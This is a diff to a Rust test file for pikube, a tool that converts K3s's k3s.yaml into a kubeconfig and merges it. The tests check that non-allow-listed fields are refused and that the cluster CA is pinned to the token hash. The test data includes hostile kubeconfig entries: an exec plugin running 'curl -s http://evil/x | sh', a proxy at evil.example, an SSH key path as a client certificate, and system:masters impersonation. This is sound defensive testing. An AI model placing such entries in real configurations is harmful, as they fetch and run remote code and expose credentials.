@@ -6,10 +6,12 @@ use std::fs;
 use std::os::unix::fs::{symlink, PermissionsExt};
 use std::path::{Path, PathBuf};
 
+use base64::Engine;
 use pikube_cluster::kubeconfig::{
-    for_cluster, kubeconfig_target, merge, merge_into_file, write_private, Kubeconfig,
-    KubeconfigError,
+    for_cluster, from_server, kubeconfig_target, merge, merge_into_file, write_private, CaPin,
+    Kubeconfig, KubeconfigError,
 };
+use pikube_cluster::state::LocalState;
 use serde_yaml::Value;
 
 const K3S_YAML: &str = include_str!("fixtures/k3s.yaml");
@@ -79,17 +81,370 @@ fn k3s_yaml_is_renamed_and_pointed_at_the_server() {
 }
 
 #[test]
-fn unknown_fields_in_k3s_yaml_survive() {
+fn nothing_outside_the_three_entries_is_copied() {
+    // Other entries and top-level fields are not K3s': they are left behind, not refused.
     let text = K3S_YAML.replace(
-        "    server: https://127.0.0.1:6443\n",
-        "    server: https://127.0.0.1:6443\n    tls-server-name: kubernetes\n",
-    ) + "x-future-field:\n  nested: [1, 2]\n";
+        "users:\n",
+        "users:\n- name: other\n  user:\n    exec:\n      command: sh\n",
+    ) + "x-future-field:\n  nested: [1, 2]\nextensions:\n- name: x\n  extension: {}\n";
     let doc = yaml(&for_cluster(&text, "pi", SERVER).unwrap().to_yaml().unwrap());
-    assert_eq!(
-        named(&doc, "clusters", "pi")["cluster"]["tls-server-name"],
-        "kubernetes"
+    assert_eq!(names(&doc, "users"), ["pi"]);
+    assert_eq!(keys(&doc), keys(&yaml(K3S_YAML)));
+    let merged = merge(OTHERS, &for_cluster(&text, "pi", SERVER).unwrap(), false).unwrap();
+    assert!(!merged.contains("x-future-field"), "{merged}");
+}
+
+/// Lines added to k3s.yaml, after the line `after`, and the entry and field the refusal
+/// must name.
+const CLUSTER: &str = "    server: https://127.0.0.1:6443\n";
+const USER: &str = "    client-key-data: RkFLRS1DTElFTlQtS0VZLVNFQ1JFVC1ET05PVC1MRUFL\n";
+const CONTEXT: &str = "    user: default\n";
+
+const REFUSED: &[(&str, &str, &str, &str)] = &[
+    (
+        USER,
+        "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      \
+         args: [-c, \"curl -s http://evil/x | sh\"]\n",
+        "users[default].user",
+        "exec",
+    ),
+    (
+        USER,
+        "    auth-provider:\n      name: oidc\n      config: {idp-issuer-url: https://evil}\n",
+        "users[default].user",
+        "auth-provider",
+    ),
+    (
+        USER,
+        "    client-certificate: /home/pi/.ssh/id_ed25519\n",
+        "users[default].user",
+        "client-certificate",
+    ),
+    (
+        USER,
+        "    client-key: /tmp/key.pem\n",
+        "users[default].user",
+        "client-key",
+    ),
+    (
+        USER,
+        "    username: admin\n",
+        "users[default].user",
+        "username",
+    ),
+    (
+        USER,
+        "    password: hunter2\n",
+        "users[default].user",
+        "password",
+    ),
+    (
+        USER,
+        "    tokenFile: /tmp/token\n",
+        "users[default].user",
+        "tokenFile",
+    ),
+    (USER, "    as: system:admin\n", "users[default].user", "as"),
+    (USER, "    as-uid: \"0\"\n", "users[default].user", "as-uid"),
+    (
+        USER,
+        "    as-groups: [system:masters]\n",
+        "users[default].user",
+        "as-groups",
+    ),
+    (
+        USER,
+        "    as-user-extra: {scopes: [all]}\n",
+        "users[default].user",
+        "as-user-extra",
+    ),
+    (
+        USER,
+        "    extensions:\n    - name: x\n      extension: {}\n",
+        "users[default].user",
+        "extensions",
+    ),
+    (
+        USER,
+        "    x-unknown: 1\n",
+        "users[default].user",
+        "x-unknown",
+    ),
+    (
+        CLUSTER,
+        "    insecure-skip-tls-verify: true\n",
+        "clusters[default].cluster",
+        "insecure-skip-tls-verify",
+    ),
+    (
+        CLUSTER,
+        "    proxy-url: socks5://evil.example:1080\n",
+        "clusters[default].cluster",
+        "proxy-url",
+    ),
+    (
+        CLUSTER,
+        "    tls-server-name: evil.example\n",
+        "clusters[default].cluster",
+        "tls-server-name",
+    ),
+    (
+        CLUSTER,
+        "    certificate-authority: /tmp/evil-ca.pem\n",
+        "clusters[default].cluster",
+        "certificate-authority",
+    ),
+    (
+        CLUSTER,
+        "    disable-compression: true\n",
+        "clusters[default].cluster",
+        "disable-compression",
+    ),
+    (
+        CLUSTER,
+        "    extensions:\n    - name: x\n      extension: {}\n",
+        "clusters[default].cluster",
+        "extensions",
+    ),
+    (
+        CLUSTER,
+        "  extensions: []\n",
+        "clusters[default]",
+        "extensions",
+    ),
+    (
+        CONTEXT,
+        "    namespace: kube-system\n",
+        "contexts[default].context",
+        "namespace",
+    ),
+    (
+        CONTEXT,
+        "    extensions: []\n",
+        "contexts[default].context",
+        "extensions",
+    ),
+];
+
+#[test]
+fn every_field_outside_the_allow_list_is_refused_and_named() {
+    // Every row is tried, so a failure lists all the fields that got through.
+    let mut wrong = Vec::new();
+    for (after, added, entry, field) in REFUSED {
+        assert!(K3S_YAML.contains(after), "{after}");
+        let text = K3S_YAML.replace(after, &format!("{after}{added}"));
+        let message = match for_cluster(&text, "pi", SERVER) {
+            Ok(_) => "accepted".to_owned(),
+            Err(error) => error.to_string(),
+        };
+        let named = message.contains(&format!("`{entry}` has `{field}`"))
+            && message.contains("K3s does not write")
+            && !message.contains(CLIENT_KEY);
+        if !named {
+            wrong.push(format!("{entry}.{field}: {message}"));
+        }
+    }
+    assert!(
+        wrong.is_empty(),
+        "not refused as expected:\n{}",
+        wrong.join("\n")
     );
-    assert_eq!(doc["x-future-field"], yaml("nested: [1, 2]"));
+}
+
+#[test]
+fn credentials_other_than_the_two_k3s_shapes_are_refused() {
+    let cert = "    client-certificate-data: RkFLRS1DTElFTlQtQ0VSVElGSUNBVEUtRk9SLVRFU1RT\n";
+    for (text, found) in [
+        (
+            K3S_YAML.replace(USER, ""),
+            "a client certificate without its key",
+        ),
+        (
+            K3S_YAML.replace(cert, ""),
+            "a client key without its certificate",
+        ),
+        (
+            K3S_YAML.replace(USER, &format!("{USER}    token: abc\n")),
+            "both a client certificate and a token",
+        ),
+        (
+            K3S_YAML.replace(&format!("  user:\n{cert}{USER}"), "  user: {}\n"),
+            "`users[default].user` holds no credentials",
+        ),
+    ] {
+        let message = k3s_error(&text);
+        assert!(message.contains(found), "{found}: {message}");
+    }
+}
+
+#[test]
+fn a_missing_or_empty_ca_is_refused() {
+    // Without it kubectl would trust the system's CAs for this cluster.
+    let ca = "    certificate-authority-data: RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ==\n";
+    for replacement in ["", "    certificate-authority-data: \"\"\n"] {
+        let message = k3s_error(&K3S_YAML.replace(ca, replacement));
+        assert!(
+            message.contains("`clusters[default].cluster` has no `certificate-authority-data`"),
+            "{message}"
+        );
+    }
+    let message =
+        k3s_error(&K3S_YAML.replace(ca, "    certificate-authority-data: \"not base64!\"\n"));
+    assert!(message.contains("is not base64"), "{message}");
+}
+
+#[test]
+fn a_client_certificate_and_key_are_kept_and_nothing_else() {
+    let doc = yaml(&pi().to_yaml().unwrap());
+    assert_eq!(
+        keys(&named(&doc, "users", "pi")["user"]),
+        ["client-certificate-data", "client-key-data"]
+    );
+    assert_eq!(
+        keys(&named(&doc, "clusters", "pi")["cluster"]),
+        ["certificate-authority-data", "server"]
+    );
+    assert_eq!(
+        keys(&named(&doc, "contexts", "pi")["context"]),
+        ["cluster", "user"]
+    );
+}
+
+#[test]
+fn a_token_user_is_kept() {
+    let token_user = K3S_YAML
+        .replace(
+            "    client-certificate-data: RkFLRS1DTElFTlQtQ0VSVElGSUNBVEUtRk9SLVRFU1RT\n",
+            "",
+        )
+        .replace(USER, "    token: K10abc::server:secret\n");
+    let config = for_cluster(&token_user, "pi", SERVER).unwrap();
+    let doc = yaml(&merge(OTHERS, &config, false).unwrap());
+    let user = &named(&doc, "users", "pi")["user"];
+    assert_eq!(keys(user), ["token"]);
+    assert_eq!(user["token"], "K10abc::server:secret");
+}
+
+#[test]
+fn a_refused_k3s_yaml_leaves_the_users_kubeconfig_untouched() {
+    // What `pikube kubeconfig --merge` does: convert, and only then merge into the file.
+    let temp = tempfile::tempdir().unwrap();
+    let path = temp.path().join("config");
+    fs::write(&path, OTHERS).unwrap();
+    let (after, added, _, _) = REFUSED[0];
+    let tampered = K3S_YAML.replace(after, &format!("{after}{added}"));
+    let converted = for_cluster(&tampered, "pi", SERVER);
+    if let Ok(config) = &converted {
+        merge_into_file(&path, config, true).unwrap();
+    }
+    assert!(converted.is_err(), "an exec plugin must be refused");
+    assert_eq!(fs::read_to_string(&path).unwrap(), OTHERS, "left alone");
+    assert_eq!(
+        entries(temp.path()),
+        ["config"],
+        "no lock or temporary file left"
+    );
+}
+
+/// A self-signed CA as K3s writes it to server-ca.crt, and `sha256sum` of that file.
+const SERVER_CA: &str = include_str!("fixtures/server-ca.crt");
+const SERVER_CA_SHA256: &str = "8cc412a18b3459e55e6616a866cb813c7e55e01bafdaeca4abac5393a8d8d911";
+const K3S_PATH: &str = "/etc/rancher/k3s/k3s.yaml";
+
+/// k3s.yaml with the fixture CA, as K3s would write it.
+fn k3s_yaml_with_real_ca() -> String {
+    let data = base64::engine::general_purpose::STANDARD.encode(SERVER_CA);
+    K3S_YAML.replace("RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ==", &data)
+}
+
+/// The pin as `pikube kubeconfig` reads it: from the token file in local state.
+fn pin_from_state(token: &str) -> (tempfile::TempDir, CaPin) {
+    let dir = tempfile::tempdir().unwrap();
+    let state = LocalState::new(dir.path(), "pi");
+    state.token_adopting(Some(token)).unwrap();
+    let path = state.dir().join("token");
+    let pin = CaPin::from_token(state.existing_token().unwrap().as_ref(), &path).unwrap();
+    (dir, pin)
+}
+
+#[test]
+fn from_server_accepts_the_ca_the_full_token_pins() {
+    let (_dir, pin) = pin_from_state(&format!("K10{SERVER_CA_SHA256}::server:s3cret"));
+    assert!(matches!(pin, CaPin::Hash { .. }), "{pin:?}");
+    let config = from_server("pi-1", &k3s_yaml_with_real_ca(), "pi", SERVER, &pin).unwrap();
+    let doc = yaml(&config.to_yaml().unwrap());
+    let data = named(&doc, "clusters", "pi")["cluster"]["certificate-authority-data"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let decoded = base64::engine::general_purpose::STANDARD
+        .decode(data)
+        .unwrap();
+    assert_eq!(
+        decoded,
+        SERVER_CA.as_bytes(),
+        "the CA is kept byte for byte"
+    );
+}
+
+#[test]
+fn from_server_refuses_another_ca_and_nothing_is_written() {
+    let temp = tempfile::tempdir().unwrap();
+    let path = temp.path().join("config");
+    fs::write(&path, OTHERS).unwrap();
+    let other_ca = format!("K10{}::server:s3cret", "0f".repeat(32));
+    let (_dir, pin) = pin_from_state(&other_ca);
+
+    let converted = from_server("pi-1", &k3s_yaml_with_real_ca(), "pi", SERVER, &pin);
+    if let Ok(config) = &converted {
+        merge_into_file(&path, config, true).unwrap();
+    }
+    let error = converted.expect_err("a CA the token does not pin must be refused");
+    let message = error.to_string();
+    assert!(
+        message.starts_with(&format!("pi-1: {K3S_PATH}: the CA in")),
+        "{message}"
+    );
+    assert!(message.contains(SERVER_CA_SHA256), "{message}");
+    assert!(message.contains(&"0f".repeat(32)), "{message}");
+    assert!(message.contains(".pikube/pi/token"), "{message}");
+    assert!(!message.contains("s3cret"), "{message}");
+    assert_eq!(fs::read_to_string(&path).unwrap(), OTHERS, "left alone");
+}
+
+#[test]
+fn from_server_names_the_node_file_entry_and_field_once() {
+    let pin = CaPin::NoToken {
+        token: PathBuf::from(".pikube/pi/token"),
+    };
+    let (after, added, _, _) = REFUSED[0];
+    let tampered = K3S_YAML.replace(after, &format!("{after}{added}"));
+    let error = from_server("pi-1", &tampered, "pi", SERVER, &pin).unwrap_err();
+    let message = error.to_string();
+    assert!(
+        message.starts_with(&format!(
+            "pi-1: {K3S_PATH}: `users[default].user` has `exec`"
+        )),
+        "{message}"
+    );
+    // pikube prints an error with its sources: the problem must not come back as one.
+    assert!(std::error::Error::source(&error).is_none());
+}
+
+#[test]
+fn a_short_or_missing_token_checks_nothing_and_says_so() {
+    let (_dir, pin) = pin_from_state(&"ab".repeat(32));
+    assert!(matches!(pin, CaPin::ShortToken { .. }), "{pin:?}");
+    from_server("pi-1", &k3s_yaml_with_real_ca(), "pi", SERVER, &pin).unwrap();
+    let reason = pin.unchecked_reason().expect("a reason to warn");
+    assert!(reason.contains("short token"), "{reason}");
+
+    let dir = tempfile::tempdir().unwrap();
+    let state = LocalState::new(dir.path(), "pi");
+    let path = state.dir().join("token");
+    let pin = CaPin::from_token(state.existing_token().unwrap().as_ref(), &path).unwrap();
+    assert!(matches!(pin, CaPin::NoToken { .. }), "{pin:?}");
+    assert!(pin.unchecked_reason().unwrap().contains("no cluster token"));
 }
 
 #[test]
